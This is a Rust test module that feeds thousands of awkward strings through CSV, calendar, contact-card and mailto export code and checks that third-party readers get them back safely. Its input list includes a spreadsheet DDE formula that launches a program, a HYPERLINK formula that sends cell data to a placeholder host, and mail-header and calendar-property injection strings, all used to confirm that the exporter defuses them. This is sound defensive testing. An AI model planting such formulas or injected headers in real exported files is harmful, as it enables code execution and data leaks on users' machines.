//! What is written here, read back by readers that others wrote: `csv`, `calcard` and `url`.
//!
//! Run with `--show-output` to see how many strings went through.

use super::{calendar, csv as tables, mail, personal_name, vcard};
use crate::content::{bank, sample};
use crate::domain::contact::Contact;
use crate::domain::id::{ContactId, InterviewId, QuestionId};
use crate::domain::interview::{Interview, Mode};
use crate::domain::workspace::{Record, Workspace};
use calcard::Entry;
use calcard::icalendar::{ICalendar, ICalendarComponentType, ICalendarValue};
use calcard::vcard::{VCard, VCardProperty, VCardValue};
use chrono::{DateTime, NaiveDate, NaiveDateTime, Utc};
use proptest::prelude::*;
use proptest::strategy::ValueTree;
use proptest::test_runner::TestRunner;

/// How many strings go through each format.
const STRINGS: usize = 5_000;

/// What text in a note may look like at its worst.
const AWKWARD: &[&str] = &[
    "",
    " ",
    "\"",
    "\"\"",
    "'",
    "''",
    ",",
    ";",
    ":",
    "\\",
    "\\\\",
    "\\n",
    "\\N",
    "\\,",
    "\\;",
    "\n",
    "\r",
    "\r\n",
    "\n\r",
    "\r\r\n",
    "\n ",
    "\n\t",
    "\r\n ",
    "\t",
    "\u{b}",
    "\0",
    "\u{1b}[31m",
    "\u{7f}",
    "\u{85}",
    "\u{9f}",
    "\u{a0}",
    "\u{ad}",
    "\u{2028}",
    "\u{2029}",
    "\u{200b}",
    "\u{200d}",
    "\u{feff}",
    "\u{fffd}",
    "\u{ffff}",
    "\u{10ffff}",
    "=",
    "+",
    "-",
    "@",
    "＝",
    "＋",
    "－",
    "＠",
    "=1+1",
    "=HYPERLINK(\"http://x.example/?\"&A1)",
    "=cmd|'/C calc'!A0",
    "- a list",
    "+44 20 7946 0000",
    "'=1",
    "''=1",
    " =1",
    "\" =1",
    ";=1",
    "\t=1",
    "@SUM(A1)",
    "BEGIN:VCARD",
    "END:VCARD",
    "BEGIN:VEVENT",
    "END:VEVENT\r\nBEGIN:VALARM",
    "\r\nEMAIL:x@y.example",
    "ATTACH:http://x.example",
    "^",
    "^n",
    "^'",
    "%0D%0A",
    "%",
    "&bcc=x@y.example",
    "?cc=x@y.example",
    "#",
    "<b>",
    "naïve",
    "e\u{301}\u{302}",
    "😀",
    "👩\u{200d}👩\u{200d}👧",
    "🇬🇧",
    "שלום",
    "\u{202e}gnp",
    "مرحبا",
    "老虎",
    "=\u{301}",
];

/// As many strings as are wanted, the same in each run.
fn strings(count: usize) -> Vec<String> {
    let piece = prop_oneof![
        6 => prop::sample::select(AWKWARD).prop_map(str::to_owned),
        2 => any::<char>().prop_map(String::from),
        2 => "[ -~]{0,20}",
        1 => (0u8..0x20).prop_map(|c| char::from(c).to_string()),
    ];
    let text = prop_oneof![
        20 => prop::collection::vec(piece, 0..8).prop_map(|pieces| pieces.concat()),
        // Around the places where a line is cut.
        4 => (50usize..90, prop::sample::select(AWKWARD))
            .prop_map(|(n, end)| "x".repeat(n) + end + "tail"),
        2 => (10usize..60, prop::sample::select(vec!["é", "老", "😀"])).prop_map(|(n, c)| c.repeat(n)),
        1 => (500usize..8_000, prop::sample::select(AWKWARD))
            .prop_map(|(n, piece)| piece.repeat(n / piece.len().max(1))),
    ];
    let mut runner = TestRunner::deterministic();
    (0..count).map(|_| text.new_tree(&mut runner).unwrap().current()).collect()
}

fn now() -> DateTime<Utc> {
    "2026-11-22T16:15:35Z".parse().unwrap()
}

fn today() -> NaiveDate {
    now().date_naive()
}

fn in_utc(at: DateTime<Utc>) -> NaiveDateTime {
    at.naive_utc()
}

/// The string that comes `further` after the one at `at`.
fn next(strings: &[String], at: usize, further: usize) -> &str {
    &strings[(at + further) % strings.len()]
}

/// What the formats forbid, written apart from the writers' own rule.
fn is_control(c: char) -> bool {
    matches!(c as u32, 0..=8 | 0xb | 0xc | 0xe..=0x1f | 0x7f)
}

/// A text as calendars and cards can hold it: no control characters but the tab, line breaks as LF.
fn one_break(text: &str) -> String {
    let plain: String = text.chars().filter(|c| !is_control(*c)).collect();
    plain.replace("\r\n", "\n").replace('\r', "\n")
}

#[test]
fn the_strings_are_awkward_in_every_way() {
    let strings = strings(STRINGS);
    for piece in AWKWARD {
        let count = strings.iter().filter(|text| text.contains(piece)).count();
        assert!(count >= 20, "{piece:?} is in {count} strings only");
        assert!(
            piece.is_empty() || strings.iter().any(|text| text.starts_with(piece)),
            "{piece:?}"
        );
    }
    assert!(strings.iter().any(String::is_empty));
    assert!(strings.iter().any(|text| text.len() > 5_000));
}

// ---- Tables ------------------------------------------------------------------------

/// What a spreadsheet that is set to semicolons makes of a file: quotes count at the
/// beginning of a cell alone.
fn cells_at_semicolons(text: &str) -> Vec<String> {
    let mut cells = vec![String::new()];
    let mut quoted = false;
    let mut chars = text.chars().peekable();
    while let Some(c) = chars.next() {
        let cell = cells.last_mut().unwrap();
        match c {
            '"' if quoted && chars.peek() == Some(&'"') => {
                chars.next();
                cell.push('"');
            }
            '"' if quoted => quoted = false,
            '"' if cell.is_empty() => quoted = true,
            ';' | '\r' | '\n' if !quoted => cells.push(String::new()),
            c => cell.push(c),
        }
    }
    cells
}

/// Whether a spreadsheet would run a cell: written apart from the writer's own rule.
fn runs(cell: &str) -> bool {
    let seen = cell.trim_start_matches(|c: char| {
        c.is_whitespace() || c.is_control() || "\"\u{feff}\u{200b}\u{200d}\u{ad}".contains(c)
    });
    cell.starts_with(['\t', '\r', '\n'])
        || ["=", "+", "-", "@", "＝", "＋", "－", "＠"].iter().any(|sign| seen.starts_with(sign))
}

/// Takes the apostrophes off again, by the rule that the documentation gives.
fn undone(cell: &str) -> String {
    let mut rest = cell;
    let mut text = String::new();
    while !rest.is_empty() {
        let end = rest.find([';', '\t', '\r', '\n']).map_or(rest.len(), |at| at + 1);
        let (part, others) = rest.split_at(end);
        let first = rest.len() == cell.len();
        let bare = part.trim_start_matches('\'');
        let sign = bare.chars().find(|c| {
            !(c.is_whitespace() || c.is_control() || invisible(*c) || "\"'".contains(*c))
        });
        let rule = sign.is_some_and(|c| "=+-@＝＋－＠".contains(c))
            || first && bare.starts_with(['\t', '\r', '\n']);
        text += if rule { part.strip_prefix('\'').unwrap() } else { part };
        rest = others;
    }
    text
}

fn invisible(c: char) -> bool {
    let code = c as u32;
    [0xad, 0x180e, 0xfeff].contains(&code)
        || (0x200b..=0x200f).contains(&code)
        || (0x202a..=0x202e).contains(&code)
        || (0x2060..=0x206f).contains(&code)
        || (0xfe00..=0xfe0f).contains(&code)
}

/// The rows of a table as a reader by other hands sees them, the heading first.
fn rows(text: &str) -> Vec<Vec<String>> {
    let text = text.strip_prefix('\u{feff}').expect("it begins with a byte order mark");
    let mut reader = csv::ReaderBuilder::new().has_headers(false).from_reader(text.as_bytes());
    // Not flexible: a row of another length is an error.
    reader.records().map(|row| row.unwrap().iter().map(str::to_owned).collect()).collect()
}

#[test]
fn five_thousand_strings_go_through_a_table_and_back() {
    let strings = strings(STRINGS);
    let mut text = "\u{feff}".to_owned();
    for pair in strings.chunks(2) {
        tables::write_row(&mut text, pair);
    }
    let read: Vec<_> = rows(&text).concat();
    assert_eq!(read.len(), strings.len());
    let mut defused = 0;
    for (cell, string) in read.iter().zip(&strings) {
        let plain: String = string.chars().filter(|c| !is_control(*c)).collect();
        assert!(!runs(cell), "{string:?} would run as {cell:?}");
        assert_eq!(undone(cell), plain, "{string:?} was written as {cell:?}");
        defused += usize::from(*cell != plain);
    }
    assert!(defused > 500, "{defused}");
    println!("csv: {STRINGS} strings, {defused} cells defused, all read back");
}

#[test]
fn a_spreadsheet_that_is_set_to_semicolons_runs_nothing_either() {
    let strings = strings(STRINGS);
    let mut text = String::new();
    for row in strings.chunks(4) {
        tables::write_row(&mut text, row);
    }
    let cells = cells_at_semicolons(&text);
    assert!(cells.len() > STRINGS / 4, "{}", cells.len());
    for cell in &cells {
        // Where it takes the end of a cell for the beginning of one, a line break is in front.
        assert!(!runs(cell.trim_start()), "{cell:?}");
    }
    println!("csv: {} cells as semicolons cut them, none would run", cells.len());
}

#[test]
fn only_what_would_run_gets_an_apostrophe() {
    for (cell, written) in [
        ("Noor", "Noor"),
        ("'90s music", "'90s music"),
        ("a=b", "a=b"),
        ("well-known; liked", "well-known; liked"),
        ("", ""),
        ("=1+1", "'=1+1"),
        ("+44 20", "'+44 20"),
        ("-", "'-"),
        ("@ada", "'@ada"),
        ("＝1", "'＝1"),
        ("'=1", "''=1"),
        ("''=1", "'''=1"),
        (" \u{a0}=1", "' \u{a0}=1"),
        ("\"=1\"", "'\"=1\""),
        ("\u{200b}=1", "'\u{200b}=1"),
        ("\0=1", "'=1"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("\nx", "'\nx"),
        ("'\nx", "''\nx"),
        ("a;=1", "a;'=1"),
        ("a\n- b\nc", "a\n'- b\nc"),
    ] {
        let mut text = "\u{feff}".to_owned();
        tables::write_row(&mut text, &[cell.to_owned(), "end".to_owned()]);
        assert_eq!(rows(&text), [[written, "end"]], "{cell:?}");
        assert_eq!(undone(written), cell.replace('\0', ""));
    }
}

fn full() -> Workspace {
    let mut w = Workspace::with_bank(bank::questions());
    let sample = sample::sample(now());
    let answers = sample.answers.into_iter().map(|(talk, id, note)| Record::Answer(talk, id, note));
    w.add_sample(sample.contacts.into_iter().map(Record::Contact));
    w.add_sample(sample.interviews.into_iter().map(Record::Interview));
    w.add_sample(answers);
    w.add_sample(sample.questions.into_iter().map(|(id, change)| Record::Question(id, change)));
    w
}

#[test]
fn the_tables_hold_everybody_and_every_note() {
    let w = full();
    let file = tables::people(&w, in_utc, today());
    assert_eq!(file.name, "ask-around-people-2026-11-22.csv");
    assert_eq!(file.media_type, "text/csv;charset=utf-8");
    let people = rows(&file.text);
    assert_eq!(people.len(), 1 + w.contacts().count());
    for (row, contact) in people.iter().skip(1).zip(w.contacts()) {
        assert_eq!((&undone(&row[0]), &undone(&row[10])), (&contact.name, &contact.phone));
    }
    let file = tables::notes(&w, in_utc, today());
    assert_eq!(file.name, "ask-around-notes-2026-11-22.csv");
    let notes = rows(&file.text);
    let texts: Vec<_> = notes.iter().map(|row| undone(&row[3])).collect();
    for talk in w.interviews() {
        for (_, answer) in w.answers(talk.id) {
            assert!(texts.contains(&answer.text), "{}", answer.text);
        }
        let learned = &talk.debrief.learned;
        assert!(learned.is_empty() || texts.contains(learned), "{learned}");
    }
    assert!(notes.iter().all(|row| !row[2].contains("gone")), "every question is found");
    println!("csv: {} people and {} notes of the sample", people.len() - 1, notes.len() - 1);
}

#[test]
fn a_note_without_its_talk_is_in_the_table_all_the_same() {
    let mut w = Workspace::default();
    let answer = crate::domain::answer::Answer { text: "kept".to_owned(), ..Default::default() };
    w.load(Record::Answer(InterviewId::fixed(9), QuestionId::free_notes(), answer));
    let notes = rows(&tables::notes(&w, in_utc, today()).text);
    assert_eq!(notes[1], ["", "", "A note whose talk is gone", "kept", ""]);
}

// ---- What calendars and cards have in common -------------------------------------------

/// Lines end with CR LF, have 75 octets at most, and hold nothing that is forbidden.
fn check_lines(text: &str) {
    let lines = text.strip_suffix("\r\n").expect("the last line is ended");
    for line in lines.split("\r\n") {
        assert!(line.len() <= 75, "{} octets: {line:?}", line.len());
        assert!(!line.contains(['\r', '\n']) && !line.chars().any(is_control), "{line:?}");
        assert!(!line.is_empty());
    }
}

// ---- Calendar ------------------------------------------------------------------------

fn a_talk(id: u128) -> (Interview, Contact) {
    let contact = Contact::named(ContactId::fixed(id + 7), "Noor Haddad", now());
    let created = "2026-11-01T08:00:00Z".parse().unwrap();
    let mut talk = Interview::with(InterviewId::fixed(id), contact.id, 20, created);
    talk.starts_at = Some("2026-12-01T09:30:00Z".parse().unwrap());
    talk.mode = Some(Mode::Video);
    (talk, contact)
}

fn read_calendar(text: &str) -> ICalendar {
    let mut parser = calcard::Parser::new(text);
    match (parser.entry(), parser.entry()) {
        (Entry::ICalendar(calendar), Entry::Eof) => calendar,
        other => panic!("{other:.1000?}\n{text:.1000}"),
    }
}

/// The properties of the event as (name, value), those that are text.
fn properties(calendar: &ICalendar) -> Vec<(String, String)> {
    let event =
        calendar.components.iter().find(|c| c.component_type == ICalendarComponentType::VEvent);
    let event = event.expect("there is an event");
    let value = |values: &[ICalendarValue]| match values {
        [ICalendarValue::Text(text)] => text.clone(),
        [ICalendarValue::Integer(n)] => n.to_string(),
        other => format!("{other:?}"),
    };
    let entries = event.entries.iter();
    entries.map(|entry| (entry.name.as_str().to_owned(), value(&entry.values))).collect()
}

#[test]
fn five_thousand_strings_go_through_a_calendar_and_back() {
    let strings = strings(STRINGS);
    for (at, string) in strings.iter().enumerate() {
        let (mut talk, mut contact) = a_talk(at as u128);
        contact.name = string.clone();
        talk.place = next(&strings, at, 1).to_owned();
        talk.goals = next(&strings, at, 2).to_owned();
        let file = calendar::talk(&talk, &contact, now()).unwrap();
        check_lines(&file.text);
        assert_safe_name(&file.name);
        let calendar = read_calendar(&file.text);
        let kinds: Vec<_> = calendar.components.iter().map(|c| c.component_type.as_str()).collect();
        assert_eq!(kinds, ["VCALENDAR", "VEVENT", "VALARM", "VALARM"], "{string:?}");
        let name = match string.trim() {
            "" => "Name to come".to_owned(),
            name => one_break(name),
        };
        let mut expected = vec![("SUMMARY", format!("Talk with {name}"))];
        let place = one_break(talk.place.trim());
        expected.extend((!place.is_empty()).then_some(("LOCATION", place)));
        let goals = match talk.goals.trim() {
            "" => String::new(),
            goals => format!("\nTo learn: {}", one_break(goals)),
        };
        expected.push(("DESCRIPTION", format!("How: Video call{goals}")));
        let known = ["UID", "DTSTAMP", "LAST-MODIFIED", "SEQUENCE", "DTSTART", "DTEND"];
        let found = properties(&calendar);
        let names: Vec<_> = found.iter().map(|(name, _)| name.as_str()).collect();
        assert_eq!(names[..6], known);
        let found: Vec<_> = found.iter().skip(6).map(|(n, v)| (n.as_str(), v.clone())).collect();
        assert_eq!(found, expected, "{:.2000}", file.text);
    }
    println!("ics: {STRINGS} strings in three properties each, all read back");
}

#[test]
fn a_talk_is_an_entry_with_its_time_and_two_alarms() {
    let (mut talk, mut contact) = a_talk(0xabc);
    talk.place = "https://meet.example/noor?a=1,2;b".to_owned();
    talk.goals = "What a Tuesday is like".to_owned();
    talk.arrangements = "She rings me".to_owned();
    contact.role = "Conservator".to_owned();
    contact.phone = "+44 20".to_owned();
    contact.link = "javascript://x".to_owned();
    let file = calendar::talk(&talk, &contact, now()).unwrap();
    assert_eq!(file.name, "talk-with-noor-haddad.ics");
    assert_eq!(file.media_type, "text/calendar;charset=utf-8");
    let expected = "BEGIN:VCALENDAR\r\nVERSION:2.0\r\nPRODID:-//Ask Around//Ask Around//EN\r\n\
        BEGIN:VEVENT\r\nUID:00000000-0000-0000-0000-000000000abc\r\n\
        DTSTAMP:20261122T161535Z\r\nLAST-MODIFIED:20261122T161535Z\r\nSEQUENCE:1844135\r\n\
        DTSTART:20261201T093000Z\r\nDTEND:20261201T095000Z\r\nSUMMARY:Talk with Noor Haddad\r\n\
        LOCATION:https://meet.example/noor?a=1\\,2\\;b\r\n\
        DESCRIPTION:Conservator\\nHow: Video call\\nAgreed: She rings me\\nTo learn: W\r\n \
        hat a Tuesday is like\\nPhone: +44 20\r\n\
        URL:https://meet.example/noor?a=1,2;b\r\n\
        BEGIN:VALARM\r\nACTION:DISPLAY\r\nDESCRIPTION:Talk with Noor Haddad\r\nTRIGGER:-P1D\r\nEND:VALARM\r\n\
        BEGIN:VALARM\r\nACTION:DISPLAY\r\nDESCRIPTION:Talk with Noor Haddad\r\nTRIGGER:-PT15M\r\nEND:VALARM\r\n\
        END:VEVENT\r\nEND:VCALENDAR\r\n";
    assert_eq!(file.text, expected);
    read_calendar(&file.text);

    // A second one is the same entry, and a later state of it.
    let later = calendar::talk(&talk, &contact, now() + chrono::TimeDelta::hours(1)).unwrap();
    let value = |text: &str, name: &str| {
        let found = properties(&read_calendar(text));
        found.into_iter().find(|(other, _)| other == name).unwrap().1
    };
    assert_eq!(value(&file.text, "UID"), value(&later.text, "UID"));
    let revision = |text| value(text, "SEQUENCE").parse::<i32>().unwrap();
    assert!(revision(&file.text) < revision(&later.text));
}

#[test]
fn a_talk_without_a_time_is_no_entry() {
    let (mut talk, mut contact) = a_talk(1);
    talk.mode = Some(Mode::Phone);
    contact.phone = "555 0100".to_owned();
    let text = calendar::talk(&talk, &contact, now()).unwrap().text;
    assert!(text.contains("\r\nLOCATION:555 0100\r\n"), "{text}");
    talk.minutes = 0;
    let text = calendar::talk(&talk, &contact, now()).unwrap().text;
    assert!(text.contains("\r\nDTEND:20261201T093100Z\r\n"), "{text}");
    talk.starts_at = Some(DateTime::<Utc>::MAX_UTC);
    assert_eq!(calendar::talk(&talk, &contact, now()), None);
    talk.starts_at = None;
    assert_eq!(calendar::talk(&talk, &contact, now()), None);
}

// ---- Cards ---------------------------------------------------------------------------

fn read_cards(text: &str) -> Vec<VCard> {
    let mut parser = calcard::Parser::new(text).strict();
    let mut cards = Vec::new();
    loop {
        match parser.entry() {
            Entry::VCard(card) => cards.push(card),
            Entry::Eof => return cards,
            other => panic!("{other:?}\n{text:.1000}"),
        }
    }
}

/// The values of a property, each part of it by itself.
fn parts(card: &VCard, name: &VCardProperty) -> Vec<String> {
    let mut entries = card.entries.iter().filter(|entry| entry.name == *name);
    let Some(entry) = entries.next() else { return Vec::new() };
    assert!(entries.next().is_none(), "{name:?} is there twice");
    let texts = entry.values.iter().flat_map(|value| match value {
        VCardValue::Text(text) => vec![text.clone()],
        VCardValue::Component(parts) => vec![parts.join(",")],
        other => panic!("{other:?}"),
    });
    texts.collect()
}

#[test]
fn five_thousand_strings_go_through_a_card_and_back() {
    let strings = strings(STRINGS);
    let mut names = 0;
    for (at, string) in strings.iter().enumerate() {
        let mut contact = Contact::named(ContactId::fixed(at as u128), string, now());
        let fields = [
            &mut contact.role,
            &mut contact.organisation,
            &mut contact.email,
            &mut contact.phone,
            &mut contact.address,
            &mut contact.notes,
        ];
        for (further, field) in fields.into_iter().enumerate() {
            next(&strings, at, further + 1).clone_into(field);
        }
        contact.tags.insert(next(&strings, at, 7).to_owned());
        contact.tags.insert(next(&strings, at, 8).to_owned());
        let file = vcard::person(&contact, now());
        check_lines(&file.text);
        assert_safe_name(&file.name);
        let cards = read_cards(&file.text);
        assert_eq!(cards.len(), 1, "{string:?}");
        let card = &cards[0];
        let plain = |text: &str| one_break(text.trim());
        for (property, text) in [
            (VCardProperty::Title, &contact.role),
            (VCardProperty::Org, &contact.organisation),
            (VCardProperty::Email, &contact.email),
            (VCardProperty::Tel, &contact.phone),
            (VCardProperty::Note, &contact.notes),
        ] {
            let expected = plain(text);
            assert_eq!(
                parts(card, &property).concat(),
                expected,
                "{property:?}: {:.2000}",
                file.text
            );
        }
        let name = match string.trim() {
            "" => "Name to come".to_owned(),
            name => one_break(name),
        };
        assert_eq!(parts(card, &VCardProperty::Fn), std::slice::from_ref(&name));
        let n = parts(card, &VCardProperty::N);
        assert_eq!(n.len(), 5, "{n:?}");
        let joined: String = format!("{} {}", n[1], n[0]).split_whitespace().collect();
        assert_eq!(joined, name.split_whitespace().collect::<String>());
        names += usize::from(!n[0].is_empty());
        let address = plain(&contact.address);
        if address.is_empty() {
            assert_eq!(contact.address.trim().chars().find(|c| !is_control(*c)), None);
        } else {
            assert_eq!(parts(card, &VCardProperty::Adr), ["", "", &address, "", "", "", ""]);
        }
        // In lists the reader makes one blank of many.
        let letters = |text: &str| one_break(text).replace([' ', '\t'], "");
        let labels: Vec<_> = contact.tags.iter().map(|label| letters(label)).collect();
        let read = parts(card, &VCardProperty::Categories);
        assert_eq!(read.iter().map(|label| letters(label)).collect::<Vec<_>>(), labels);
        let allowed =
            ["VERSION", "PRODID", "UID", "REV", "FN", "N", "TITLE", "ORG", "EMAIL", "TEL"];
        let allowed = [&allowed[..], &["ADR", "CATEGORIES", "NOTE"]].concat();
        for entry in &card.entries {
            assert!(allowed.contains(&entry.name.as_str()), "{:?} was injected", entry.name);
        }
    }
    println!(
        "vcard: {STRINGS} strings in nine properties each, {names} split names, all read back"
    );
}

#[test]
fn a_card_holds_what_is_known() {
    let mut contact = Contact::named(ContactId::fixed(0xabc), "Noor van Haddad", now());
    contact.role = "Conservator, paper".to_owned();
    contact.email = " noor@example.org ".to_owned();
    contact.phone = "+44 20".to_owned();
    contact.address = "1 \"Quay\" St\nTown; North".to_owned();
    contact.link = "https://example.org/noor".to_owned();
    contact.tags.extend(["paper, wet".to_owned(), "lab".to_owned()]);
    let file = vcard::person(&contact, now());
    assert_eq!(file.name, "contact-noor-van-haddad.vcf");
    assert_eq!(file.media_type, "text/vcard;charset=utf-8");
    let expected = "BEGIN:VCARD\r\nVERSION:4.0\r\nPRODID:-//Ask Around//Ask Around//EN\r\n\
        UID:urn:uuid:00000000-0000-0000-0000-000000000abc\r\nREV:20261122T161535Z\r\n\
        FN:Noor van Haddad\r\nN:Haddad;Noor van;;;\r\nTITLE:Conservator\\, paper\r\n\
        EMAIL:noor@example.org\r\nTEL:+44 20\r\n\
        ADR:;;1 \"Quay\" St\\nTown\\; North;;;;\r\n\
        URL:https://example.org/noor\r\nCATEGORIES:lab,paper\\, wet\r\nEND:VCARD\r\n";
    assert_eq!(file.text, expected);
    assert_eq!(read_cards(&file.text).len(), 1);
    contact.link = "https://x.example/\0\u{1b}[1m".to_owned();
    let text = vcard::person(&contact, now()).text;
    check_lines(&text);
    assert!(text.contains("\r\nURL:https://x.example/[1m\r\n"), "{text}");
    contact.link = "javascript://x".to_owned();
    assert!(!vcard::person(&contact, now()).text.contains("URL"));
}

#[test]
fn everyone_has_a_card_in_one_file() {
    let w = full();
    let file = vcard::people(&w, now(), today());
    assert_eq!(file.name, "ask-around-people-2026-11-22.vcf");
    check_lines(&file.text);
    assert_eq!(read_cards(&file.text).len(), w.contacts().count());
}

// ---- Mail ----------------------------------------------------------------------------

/// The headers of a link, read by the parser of web addresses and decoded by another library.
fn read_link(link: &str) -> (String, Vec<(String, String)>) {
    let read = url::Url::parse(link).unwrap();
    assert_eq!((read.scheme(), read.fragment()), ("mailto", None), "{link}");
    let decode = |text: &str| urlencoding::decode(text).unwrap().into_owned();
    let headers = read.query().into_iter().flat_map(|query| query.split('&')).map(|header| {
        let (name, value) = header.split_once('=').unwrap();
        assert!(!value.contains('='), "{link}");
        (decode(name), decode(value))
    });
    (decode(read.path()), headers.collect())
}

#[test]
fn five_thousand_strings_go_through_a_link_and_back() {
    let strings = strings(STRINGS);
    for (at, string) in strings.iter().enumerate() {
        let (subject, body) = (string, next(&strings, at, 1));
        let link = mail::link("noor+x&y@example.org", subject, body).unwrap();
        assert!(link.bytes().all(|b| b.is_ascii_graphic()), "{link}");
        let (to, headers) = read_link(&link);
        let subject = one_break(subject).replace('\n', " ");
        let body = one_break(body).replace('\n', "\r\n");
        let expected = [("subject".to_owned(), subject), ("body".to_owned(), body)];
        let expected: Vec<_> = expected.into_iter().filter(|(_, text)| !text.is_empty()).collect();
        assert_eq!((to.as_str(), headers), ("noor+x&y@example.org", expected));
        // Hardly any of them is an address; what is one names nobody else.
        if let Some(link) = mail::link(string, "", "") {
            assert_eq!(read_link(&link), (string.trim().to_owned(), Vec::new()));
        }
    }
    println!(
        "mailto: {STRINGS} strings as subject, body and address, all read back, no header more"
    );
}

#[test]
fn an_address_made_of_anything_names_one_person_or_nobody() {
    let mut links = 0;
    for string in strings(STRINGS) {
        let to = format!("a{string}@example.org");
        let Some(link) = mail::link(&to, "", "") else { continue };
        links += 1;
        assert_eq!(read_link(&link), (to, Vec::new()));
    }
    assert!(links > 100, "{links}");
    println!("mailto: {links} of {STRINGS} made-up addresses are taken for one, all read back");
}

// ---- Names of files --------------------------------------------------------------------

/// A name that every system takes.
fn assert_safe_name(name: &str) {
    let (stem, ending) = name.split_once('.').unwrap();
    let plain = |c: u8| c.is_ascii_lowercase() || c.is_ascii_digit() || c == b'-';
    assert!(stem.bytes().all(plain) && ending.bytes().all(plain), "{name:?}");
    assert!((4..=70).contains(&name.len()), "{name:?}");
}

#[test]
fn a_file_has_a_plain_name() {
    for (name, file) in [
        ("Noor Haddad", "talk-with-noor-haddad.ics"),
        ("Renée O'Neil", "talk-with-renee-o-neil.ics"),
        ("Łukasz Żur", "talk-with-lukasz-zur.ics"),
        ("Jose\u{301} /../x", "talk-with-jose-x.ics"),
        ("山田", "talk-with.ics"),
        ("  ", "talk-with.ics"),
        ("CON.exe", "talk-with-con-exe.ics"),
    ] {
        assert_eq!(personal_name("talk-with", name, "ics"), file);
    }
    assert_safe_name(&personal_name("talk-with", &"long ".repeat(50), "ics"));
}
